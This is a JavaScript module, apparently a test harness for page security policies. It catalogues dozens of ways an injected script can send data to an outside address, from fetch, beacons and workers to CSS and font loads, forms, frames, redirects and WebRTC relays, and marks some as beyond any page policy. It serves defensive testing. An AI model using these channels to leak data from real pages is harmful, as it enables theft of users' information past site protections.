// Ways by which a script that got into the page could try to tell somebody what it found there.
// Each runs in the page and gets an address that ends with what is to be told.

/** A way with its address, to be evaluated in a page. What it throws there is what stopped it. */
export const attempt = (way, to, relay) =>
  `(() => { try { Promise.resolve((${way})(${JSON.stringify({ to, relay })})).catch(() => {}) } catch {} })()`

/** Names and ways. `to` is where to send it, `relay` a host and port for what is no web request. */
export const ESCAPES = {
  'fetch': ({ to }) => fetch(to),
  'fetch that outlives the page': ({ to }) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: to }),
  'fetch later': ({ to }) => globalThis.fetchLater(to, { activateAfter: 0 }),
  'XMLHttpRequest': ({ to }) => {
    const request = new XMLHttpRequest()
    request.open('POST', to)
    request.send(to)
  },
  'beacon': ({ to }) => navigator.sendBeacon(to, to),
  'WebSocket': ({ to }) => new WebSocket(to.replace('http', 'ws')),
  'WebTransport': ({ to }) => new WebTransport(to.replace('http:', 'https:')),
  'events from a server': ({ to }) => new EventSource(to),
  'image': ({ to }) => { new Image().src = to },
  'image in a drawing': ({ to }) => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', to)
    drawing.append(image)
    document.body.append(drawing)
  },
  'picture of a style': ({ to }) => {
    const spot = document.body.appendChild(document.createElement('p'))
    spot.textContent = '.'
    spot.style.backgroundImage = `url("${to}")`
  },
  'picture of a sheet made by script': ({ to }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url("${to}") }`)
    document.adoptedStyleSheets.push(sheet)
  },
  'letters of a style': ({ to }) => {
    document.fonts.add(new FontFace('escape', `url("${to}")`))
    return document.fonts.load('12px escape')
  },
  'style sheet': ({ to }) => {
    const link = document.head.appendChild(document.createElement('link'))
    link.rel = 'stylesheet'
    link.href = to
  },
  'script': ({ to }) => { document.head.appendChild(document.createElement('script')).src = to },
  'module': ({ to }) => import(to),
  'module asked for early': ({ to }) => {
    const link = document.head.appendChild(document.createElement('link'))
    link.rel = 'modulepreload'
    link.href = to
  },
  'worker': ({ to }) => new Worker(to),
  'worker by the name of our own policy': ({ to }) =>
    new Worker(trustedTypes.createPolicy('afterdisc-worker', { createScriptURL: (same) => same }).createScriptURL(to)),
  'shared worker': ({ to }) => new SharedWorker(to),
  'service worker': ({ to }) => navigator.serviceWorker.register(to),
  'rules to load ahead': ({ to }) => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] })
    document.head.append(rules)
  },
  'prefetch': ({ to }) => {
    const link = document.head.appendChild(document.createElement('link'))
    link.rel = 'prefetch'
    link.href = to
  },
  'preload': ({ to }) => {
    const link = document.head.appendChild(document.createElement('link'))
    link.rel = 'preload'
    link.as = 'image'
    link.href = to
  },
  'other icon': ({ to }) => {
    const link = document.head.appendChild(document.createElement('link'))
    link.rel = 'icon'
    link.href = to
  },
  'other manifest': ({ to }) => { document.querySelector('link[rel=manifest]').href = to },
  'link that pings': ({ to }) => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = location.hash || '#'
    link.ping = to
    link.click()
  },
  'form': ({ to }) => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = to
    form.method = 'post'
    form.submit()
  },
  'form into a frame': ({ to }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.name = 'escape'
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { action: to, method: 'post', target: 'escape' }).submit()
  },
  'frame': ({ to }) => { document.body.appendChild(document.createElement('iframe')).src = to },
  'frame made anew': ({ to }) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return frame.contentWindow.fetch(to)
  },
  'frame with a page of its own': ({ to }) => {
    document.body.appendChild(document.createElement('iframe')).srcdoc = `<img src="${to}">`
  },
  'object': ({ to }) => { document.body.appendChild(document.createElement('object')).data = to },
  'embed': ({ to }) => { document.body.appendChild(document.createElement('embed')).src = to },
  'sound': ({ to }) => { document.body.appendChild(document.createElement('audio')).src = to },
  'film': ({ to }) => {
    const film = document.body.appendChild(document.createElement('video'))
    film.poster = to
    film.src = to
  },
  'markup': ({ to }) => { document.body.insertAdjacentHTML('beforeend', `<img src="${to}">`) },
  'base address': ({ to }) => {
    document.head.appendChild(document.createElement('base')).href = `${to}/`
    new Image().src = './told'
  },
  'cache': async ({ to }) => (await caches.open('escape')).add(to),
}

/** Ways that lead away from the page. No policy of a page can close them. */
export const LEAVING = {
  'going elsewhere': ({ to }) => { location.href = to },
  'a new window': ({ to }) => { window.open(to) },
  'a page that refreshes itself': ({ to }) => {
    const refresh = document.createElement('meta')
    refresh.httpEquiv = 'refresh'
    refresh.content = `0; url=${to}`
    document.head.append(refresh)
  },
}

/** What stays in the page, but stands under no policy of a page: a call between two browsers asks a relay for its address. */
export const NO_POLICY = {
  'WebRTC': async ({ to, relay }) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${relay}` }, { urls: `turn:${relay}`, username: to, credential: 'x' }],
    })
    connection.createDataChannel('escape')
    await connection.setLocalDescription(await connection.createOffer())
  },
}
